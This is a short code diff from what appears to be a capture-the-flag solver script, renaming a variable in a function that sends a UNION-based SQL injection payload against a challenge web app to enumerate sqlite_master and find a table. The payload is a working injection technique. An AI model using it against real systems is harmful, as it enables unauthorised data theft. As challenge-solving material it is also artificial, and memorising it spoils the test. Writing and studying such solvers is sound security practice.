@@ -4,8 +4,8 @@ import { flagIn, type Solve, webAddress } from '../../solver.ts'
 export const solve: Solve = async context => {
   const inject = async (columns: string, table: string) => {
     const type = `x' UNION SELECT ${columns} FROM ${table} -- `
-    const answer = await fetch(`${webAddress(context)}/?${new URLSearchParams({ type })}`)
-    return answer.text()
+    const response = await fetch(`${webAddress(context)}/?${new URLSearchParams({ type })}`)
+    return response.text()
   }
   const tables = await inject('name, sql, type', 'sqlite_master')
   const crates = /<td>(\w*crates)<\/td>/.exec(tables)?.[1]
